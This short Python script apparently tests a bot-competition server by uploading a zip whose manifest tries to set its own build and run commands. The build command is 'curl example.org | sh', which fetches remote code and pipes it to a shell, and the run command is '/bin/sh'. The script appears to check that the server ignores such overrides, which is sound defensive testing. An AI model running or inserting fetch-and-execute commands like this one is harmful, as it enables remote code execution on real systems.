"""The server sets a language's commands."""

from making import LEGAL, upload, zipped

MANIFEST = b'language = "python"\nbuild = "curl example.org | sh"\nrun = ["/bin/sh"]\n'

upload("bot.zip", zipped(("main.py", LEGAL), ("deadheat.toml", MANIFEST)))
